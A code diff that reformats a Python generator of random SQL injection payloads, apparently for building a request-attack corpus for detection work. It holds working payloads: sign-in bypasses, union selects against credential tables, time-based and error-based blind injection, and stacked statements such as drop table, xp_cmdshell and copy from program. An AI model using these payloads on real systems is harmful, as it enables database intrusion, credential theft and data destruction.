@@ -8,50 +8,17 @@ from weir_models.request_attack.corpus.placing import word
 
 R = random.Random
 
-FUNCTIONS = (
-    "version()",
-    "user()",
-    "database()",
-    "@@version",
-    "current_user",
-    "@@hostname",
-    "session_user()",
-    "sqlite_version()",
-    "schema()",
-    "system_user",
-)
-TABLES = (
-    "users",
-    "admin",
-    "members",
-    "accounts",
-    "customers",
-    "information_schema.tables",
-    "information_schema.columns",
-    "mysql.user",
-    "sysobjects",
-    "all_tables",
-    "sqlite_master",
-    "pg_catalog.pg_user",
-    "orders",
-    "wp_users",
-    "dual",
-)
-COLUMNS = (
-    "password",
-    "passwd",
-    "username",
-    "login",
-    "email",
-    "table_name",
-    "column_name",
-    "credit_card",
-    "hash",
-    "name",
-    "id",
-    "user_pass",
-    "salt",
-)
+FUNCTIONS = """
+    version() user() database() @@version current_user @@hostname session_user() sqlite_version() schema()
+    system_user
+""".split()
+TABLES = """
+    users admin members accounts customers information_schema.tables information_schema.columns mysql.user
+    sysobjects all_tables sqlite_master pg_catalog.pg_user orders wp_users dual
+""".split()
+COLUMNS = """
+    password passwd username login email table_name column_name credit_card hash name id user_pass salt
+""".split()
 
 
 def _case(r: R, text: str) -> str:
@@ -68,21 +35,8 @@ def _space(r: R, text: str) -> str:
     style = r.random()
     if style < 0.7:
         return text
-    filler = r.choice(
-        (
-            "/**/",
-            "+",
-            "\t",
-            "\n",
-            "\r\n",
-            "/*" + word(r) + "*/",
-            "%0a",
-            "\x0b",
-            "  ",
-            "--" + word(r) + "\n",
-            "#" + word(r) + "\n",
-        )
-    )
+    filler = r.choice(("/**/", "+", "\t", "\n", "\r\n", "/*" + word(r) + "*/", "%0a", "\x0b", "  ", "--" + word(r) + "\n",
+        "#" + word(r) + "\n"))  # fmt: skip
     return text.replace(" ", filler)
 
 
@@ -100,25 +54,8 @@ def opening(r: R) -> str:
 
 def closing(r: R) -> str:
     """What makes the rest of the query harmless."""
-    return r.choice(
-        (
-            "--",
-            "-- ",
-            "#",
-            "/*",
-            "-- -",
-            "--+",
-            ";--",
-            ";%00",
-            "",
-            "",
-            " and '1'='1",
-            " or 'a'='a",
-            ' and ("a"="a',
-            " and ('x' like 'x",
-            "--" + word(r),
-        )
-    )
+    return r.choice(("--", "-- ", "#", "/*", "-- -", "--+", ";--", ";%00", "", "", " and '1'='1", " or 'a'='a", ' and ("a"="a',
+        " and ('x' like 'x", "--" + word(r)))  # fmt: skip
 
 
 def logic(r: R) -> str:
@@ -136,37 +73,11 @@ def truth(r: R) -> str:
     n = number(r)
     m = r.choice((n, n, n, number(r)))
     s = word(r)
-    return r.choice(
-        (
-            f"{n}={m}",
-            f"{n} = {m}",
-            f"'{s}'='{s}",
-            f"'{s}' = '{s}'",
-            f'"{s}"="{s}',
-            f"({n})=({n})",
-            f"{n} like {n}",
-            f"'{s}' like '{s}",
-            f"{n}<{n + 1}",
-            f"{n}<>{n + 1}",
-            f"{n} between {n - 1} and {n + 1}",
-            f"'{s}' in ('{s}')",
-            f"not {n}={n + 1}",
-            f"{n}>{n - 1}",
-            "true",
-            "1",
-            f"'{s}' is not null",
-            f"{n} rlike {n}",
-            f"0x{n:04x}=0x{n:04x}",
-            f"char({n % 120})=char({n % 120})",
-            f"~{n}",
-            f"{n} regexp {n}",
-            f"'{s}'<>'{s}x",
-            "exists(select 1)",
-            f"{r.choice(COLUMNS)} is null",
-            f"{r.choice(COLUMNS)} like '%{s}%'",
-            f"length({r.choice(COLUMNS)})>{n % 20}",
-        )
-    )
+    return r.choice((f"{n}={m}", f"{n} = {m}", f"'{s}'='{s}", f"'{s}' = '{s}'", f'"{s}"="{s}', f"({n})=({n})", f"{n} like {n}",
+        f"'{s}' like '{s}", f"{n}<{n + 1}", f"{n}<>{n + 1}", f"{n} between {n - 1} and {n + 1}", f"'{s}' in ('{s}')", f"not {n}={n + 1}",
+        f"{n}>{n - 1}", "true", "1", f"'{s}' is not null", f"{n} rlike {n}", f"0x{n:04x}=0x{n:04x}", f"char({n % 120})=char({n % 120})",
+        f"~{n}", f"{n} regexp {n}", f"'{s}'<>'{s}x", "exists(select 1)", f"{r.choice(COLUMNS)} is null",
+        f"{r.choice(COLUMNS)} like '%{s}%'", f"length({r.choice(COLUMNS)})>{n % 20}"))  # fmt: skip
 
 
 def boolean(r: R) -> str:
@@ -177,34 +88,9 @@ def boolean(r: R) -> str:
 def sign_in(r: R) -> str:
     """Past a sign-in form."""
     who = r.choice(("admin", "root", "administrator", "test", "sa", ""))
-    return finish(
-        r,
-        r.choice(
-            (
-                f"{who}'--",
-                f"{who}' #",
-                f"{who}'/*",
-                f"{who}' or 1=1--",
-                f"{who}' or '1'='1",
-                f"{who}') or ('1'='1",
-                f"{who}' or 1=1 limit 1;#",
-                "' or ''='",
-                "' or 1--",
-                "' or true--",
-                f'{who}" or ""="',
-                "' || '1'='1",
-                "'='",
-                "' like '",
-                "'-'",
-                "' or 1=1/*",
-                f"{who}' or 1 or '",
-                "'=0--+",
-                f"'+or+'{word(r)}'='{word(r)}",
-                "') or true--",
-                f"' or {truth(r)}{closing(r)}",
-            )
-        ),
-    )
+    return finish(r, r.choice((f"{who}'--", f"{who}' #", f"{who}'/*", f"{who}' or 1=1--", f"{who}' or '1'='1", f"{who}') or ('1'='1",
+        f"{who}' or 1=1 limit 1;#", "' or ''='", "' or 1--", "' or true--", f'{who}" or ""="', "' || '1'='1", "'='", "' like '", "'-'",
+        "' or 1=1/*", f"{who}' or 1 or '", "'=0--+", f"'+or+'{word(r)}'='{word(r)}", "') or true--", f"' or {truth(r)}{closing(r)}")))  # fmt: skip
 
 
 def columns(r: R) -> str:
@@ -218,38 +104,17 @@ def columns(r: R) -> str:
     elif pick < 0.75:
         items = [str(number(r))] * count
     else:
-        items = [
-            r.choice(
-                (
-                    str(i),
-                    "null",
-                    r.choice(COLUMNS),
-                    r.choice(FUNCTIONS),
-                    f"concat({r.choice(COLUMNS)},0x3a,{r.choice(COLUMNS)})",
-                    f"group_concat({r.choice(COLUMNS)})",
-                    f"char({number(r) % 120})",
-                    f"'{word(r)}'",
-                    f"0x{number(r):08x}",
-                    f"{r.choice(COLUMNS)}||':'||{r.choice(COLUMNS)}",
-                )
-            )
-            for i in range(count)
-        ]
+        items = [r.choice((str(i), "null", r.choice(COLUMNS), r.choice(FUNCTIONS), f"concat({r.choice(COLUMNS)},0x3a,{r.choice(COLUMNS)})",
+            f"group_concat({r.choice(COLUMNS)})", f"char({number(r) % 120})", f"'{word(r)}'", f"0x{number(r):08x}",
+            f"{r.choice(COLUMNS)}||':'||{r.choice(COLUMNS)}")) for i in range(count)]  # fmt: skip
     return ",".join(items)
 
 
 def select(r: R) -> str:
     """A query."""
-    tail = r.choice(
-        (
-            "",
-            f" from {r.choice(TABLES)}",
-            f" from {r.choice(TABLES)} where {r.choice(COLUMNS)}='{word(r)}'",
-            f" from {r.choice(TABLES)} limit {r.randint(0, 9)},1",
-            f" from {r.choice(TABLES)} where table_schema=database()",
-            f" from {word(r)}.{r.choice(TABLES)}",
-        )
-    )
+    tail = r.choice(("", f" from {r.choice(TABLES)}", f" from {r.choice(TABLES)} where {r.choice(COLUMNS)}='{word(r)}'",
+        f" from {r.choice(TABLES)} limit {r.randint(0, 9)},1", f" from {r.choice(TABLES)} where table_schema=database()",
+        f" from {word(r)}.{r.choice(TABLES)}"))  # fmt: skip
     return f"select {r.choice(('', '', '', 'distinct ', 'top 1 '))}{columns(r)}{tail}"
 
 
@@ -265,37 +130,17 @@ def union(r: R) -> str:
 
 def _delay(r: R) -> str:
     n = r.randint(1, 20)
-    return r.choice(
-        (
-            f"sleep({n})",
-            f"pg_sleep({n})",
-            f"benchmark({n}000000,md5({number(r)}))",
-            f"waitfor delay '0:0:{n}'",
-            f"dbms_pipe.receive_message('{word(r)}',{n})",
-            f"(select {number(r)} from (select(sleep({n})))x)",
-            f"if({truth(r)},sleep({n}),0)",
-            f"(select case when ({truth(r)}) then pg_sleep({n}) else null end)",
-            f"like('abcdefg',upper(hex(randomblob({n}00000000))))",
-            f"(select count(*) from {r.choice(TABLES)} a,{r.choice(TABLES)} b,{r.choice(TABLES)} c)",
-        )
-    )
+    return r.choice((f"sleep({n})", f"pg_sleep({n})", f"benchmark({n}000000,md5({number(r)}))", f"waitfor delay '0:0:{n}'",
+        f"dbms_pipe.receive_message('{word(r)}',{n})", f"(select {number(r)} from (select(sleep({n})))x)", f"if({truth(r)},sleep({n}),0)",
+        f"(select case when ({truth(r)}) then pg_sleep({n}) else null end)", f"like('abcdefg',upper(hex(randomblob({n}00000000))))",
+        f"(select count(*) from {r.choice(TABLES)} a,{r.choice(TABLES)} b,{r.choice(TABLES)} c)"))  # fmt: skip
 
 
 def time(r: R) -> str:
     """An answer that comes late when the guess is right."""
-    return finish(
-        r,
-        r.choice(
-            (
-                f"{opening(r)} {logic(r)} {_delay(r)}{closing(r)}",
-                f"{opening(r)};{r.choice(('select ', '', 'if(1=1) ', 'begin '))}{_delay(r)}{closing(r)}",
-                _delay(r),
-                f"{number(r)}-{_delay(r)}",
-                f"{opening(r)}||{_delay(r)}||'",
-                f"({_delay(r)})/*'+({_delay(r)})+'*/",
-            )
-        ),
-    )
+    return finish(r, r.choice((f"{opening(r)} {logic(r)} {_delay(r)}{closing(r)}",
+        f"{opening(r)};{r.choice(('select ', '', 'if(1=1) ', 'begin '))}{_delay(r)}{closing(r)}", _delay(r), f"{number(r)}-{_delay(r)}",
+        f"{opening(r)}||{_delay(r)}||'", f"({_delay(r)})/*'+({_delay(r)})+'*/")))  # fmt: skip
 
 
 def error(r: R) -> str:
@@ -308,46 +153,22 @@ def error(r: R) -> str:
             f"(select (case when ({truth(r)}) then 1 else 0 end))",
         )
     )
-    made = r.choice(
-        (
-            f"extractvalue({number(r)},concat(0x7e,{inner}))",
-            f"updatexml(1,concat(0x3a,{inner}),1)",
-            f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
-            f"cast({inner} as int)=1",
-            f"convert(int,{inner})",
-            f"1=(select upper(xmltype(chr(60)||{inner})) from dual)",
-            f"ctxsys.drithsx.sn(1,{inner})=1",
-            f"exp(~{inner})",
-            f"row(1,2)>(select count(*),concat({inner},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
-            f"cast({inner}::text as numeric)",
-            f"utl_inaddr.get_host_address({inner})",
-            f"json_keys({inner})",
-            f"gtid_subset({inner},1)",
-            f"procedure analyse(extractvalue(1,{inner}),1)",
-        )
-    )
+    made = r.choice((f"extractvalue({number(r)},concat(0x7e,{inner}))", f"updatexml(1,concat(0x3a,{inner}),1)",
+        f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
+        f"cast({inner} as int)=1", f"convert(int,{inner})", f"1=(select upper(xmltype(chr(60)||{inner})) from dual)",
+        f"ctxsys.drithsx.sn(1,{inner})=1", f"exp(~{inner})",
+        f"row(1,2)>(select count(*),concat({inner},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
+        f"cast({inner}::text as numeric)", f"utl_inaddr.get_host_address({inner})", f"json_keys({inner})", f"gtid_subset({inner},1)",
+        f"procedure analyse(extractvalue(1,{inner}),1)"))  # fmt: skip
     return finish(r, f"{opening(r)} {logic(r)} {made}{closing(r)}")
 
 
 def stacked(r: R) -> str:
     """A second statement."""
-    made = r.choice(
-        (
-            f"drop table {r.choice(TABLES)}",
-            f"insert into {r.choice(TABLES)} values ({columns(r)})",
-            f"update {r.choice(TABLES)} set {r.choice(COLUMNS)}='{word(r)}'",
-            f"delete from {r.choice(TABLES)}",
-            f"exec xp_cmdshell '{word(r)}'",
-            f"exec master..xp_cmdshell 'ping {word(r)}'",
-            f"declare @x varchar(99);set @x=0x{number(r):x};exec(@x)",
-            "shutdown",
-            select(r),
-            f"create table {word(r)}(x int)",
-            f"alter table {r.choice(TABLES)} add x int",
-            f"truncate table {r.choice(TABLES)}",
-            f"exec sp_executesql N'{word(r)}'",
-            f"copy {word(r)} from program 'id'",
-            "exec('sel'+'ect 1')",
-        )
-    )
+    made = r.choice((f"drop table {r.choice(TABLES)}", f"insert into {r.choice(TABLES)} values ({columns(r)})",
+        f"update {r.choice(TABLES)} set {r.choice(COLUMNS)}='{word(r)}'", f"delete from {r.choice(TABLES)}",
+        f"exec xp_cmdshell '{word(r)}'", f"exec master..xp_cmdshell 'ping {word(r)}'",
+        f"declare @x varchar(99);set @x=0x{number(r):x};exec(@x)", "shutdown", select(r), f"create table {word(r)}(x int)",
+        f"alter table {r.choice(TABLES)} add x int", f"truncate table {r.choice(TABLES)}", f"exec sp_executesql N'{word(r)}'",
+        f"copy {word(r)} from program 'id'", "exec('sel'+'ect 1')"))  # fmt: skip
     return finish(r, f"{opening(r)};{r.choice(('', ' '))}{made}{closing(r)}")
